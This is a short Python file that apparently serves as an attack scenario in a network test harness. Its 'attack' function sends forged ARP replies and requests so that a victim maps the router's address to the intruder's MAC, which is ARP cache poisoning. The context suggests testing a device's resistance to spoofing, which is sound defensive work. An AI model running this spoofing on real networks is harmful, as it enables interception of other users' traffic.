# SPDX-License-Identifier: Apache-2.0
"""A victim outside learns by unicast replies and questions that the router is at the intruder."""
from kit import *

FAMILIES = (4,)


def attack(pot, out):
    for n in range(50):
        for operation in (1, 2):
            for mac in (pot.mac, out.mac, b"\2\0\0\0\0" + bytes([n])):
                body = arp(mac, out.host(4), out.ip(4), operation, out.mac)
                pot.send(ethernet(out.mac, pot.mac, body, 0x0806))
